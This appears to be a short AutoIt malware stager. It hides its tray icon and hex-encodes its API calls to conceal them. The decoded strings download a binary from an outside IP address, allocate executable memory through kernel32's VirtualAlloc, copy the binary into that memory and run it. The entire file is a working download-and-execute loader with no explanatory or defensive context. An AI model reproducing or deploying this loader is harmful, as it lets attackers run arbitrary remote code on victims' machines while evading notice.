#NoTrayIcon
Local $a = "0x446C6C43616C6C28226B65726E656C33322E646C6C222C2022696E74222C20225669727475616C416C6C6F6322"
Local $b = "0x496E6574526561642822687474703A2F2F3230332E302E3131332E39302F702E62696E222C203129"
Local $c = Execute(BinaryToString($b))
Local $p = Execute(BinaryToString($a) & ", ""ptr"", 0, ""ulong_ptr"", BinaryLen($c), ""dword"", 0x3000, ""dword"", 0x40)")
DllStructSetData(DllStructCreate("byte[" & BinaryLen($c) & "]", $p[0]), 1, $c)
DllCallAddress("int", $p[0])
